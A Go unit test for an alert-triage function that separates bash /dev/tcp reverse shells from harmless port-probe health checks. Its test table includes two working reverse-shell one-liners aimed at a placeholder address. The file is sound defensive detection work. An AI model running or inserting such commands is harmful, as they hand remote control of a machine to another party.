package triage

import "testing"

// TestASocketOpenedToProbeAPortIsNoReverseShell holds that bash's
// /dev/tcp device makes a reverse shell only when a shell's input or
// output is wired to it; a health check or readiness probe opening the
// socket to see a port answer is not one, whatever the detection's name.
func TestASocketOpenedToProbeAPortIsNoReverseShell(t *testing.T) {
	const title = "Potential Reverse Shell via /dev/tcp"
	for cmd, want := range map[string]bool{
		"bash -c 'bash -i >& /dev/tcp/203.0.113.45/4444 0>&1'":                            true,
		"exec 5<>/dev/tcp/203.0.113.45/443; cat <&5 | while read l; do $l 2>&5 >&5; done": true,
		"timeout 3 bash -c '</dev/tcp/10.52.8.14/5432' && echo 1 || echo 0":               false,
		"/bin/bash -c exec 3<>/dev/tcp/127.0.0.1/6432 && exit 0":                          false,
	} {
		if got := reverseShell(cmd, title); got != want {
			t.Errorf("%q: reverse shell %v, want %v", cmd, got, want)
		}
	}
	if !reverseShell("", "execution:runtime/reverseshell") {
		t.Error("the sensor's own name for a reverse shell, with no command to read, was not taken")
	}
}
